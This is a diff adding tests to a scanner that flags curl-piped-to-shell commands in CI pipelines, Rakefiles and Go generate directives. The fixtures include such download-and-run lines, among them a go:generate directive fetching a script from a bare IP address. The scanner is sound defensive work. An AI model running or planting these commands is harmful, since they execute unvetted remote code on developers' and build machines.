@@ -18,6 +18,16 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
   });
 
+  it('reads other CI systems\' pipelines (high, as a workflow), Rakefiles and //go:generate directives', () => {
+    for (const path of ['.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml', 'azure-pipelines.yml', '.travis.yml', 'bitbucket-pipelines.yml', '.buildkite/pipeline.yml']) {
+      expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
+    }
+    expect(found('Rakefile', [], ['task :setup do', '  sh "curl -s https://get.example.dev/x | bash"', 'end'])).toEqual(['medium Rakefile:3']);
+    expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
+    // In Go only the directive is a command: a string or comment that mentions one is not.
+    expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
+  });
+
   it('is quiet on a command the PR only moves or re-indents, on comments, and on downloads not run', () => {
     const line = '\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.61.0';
     expect(found('Makefile', [line], ['lint: bin/golangci-lint', line])).toEqual([]);
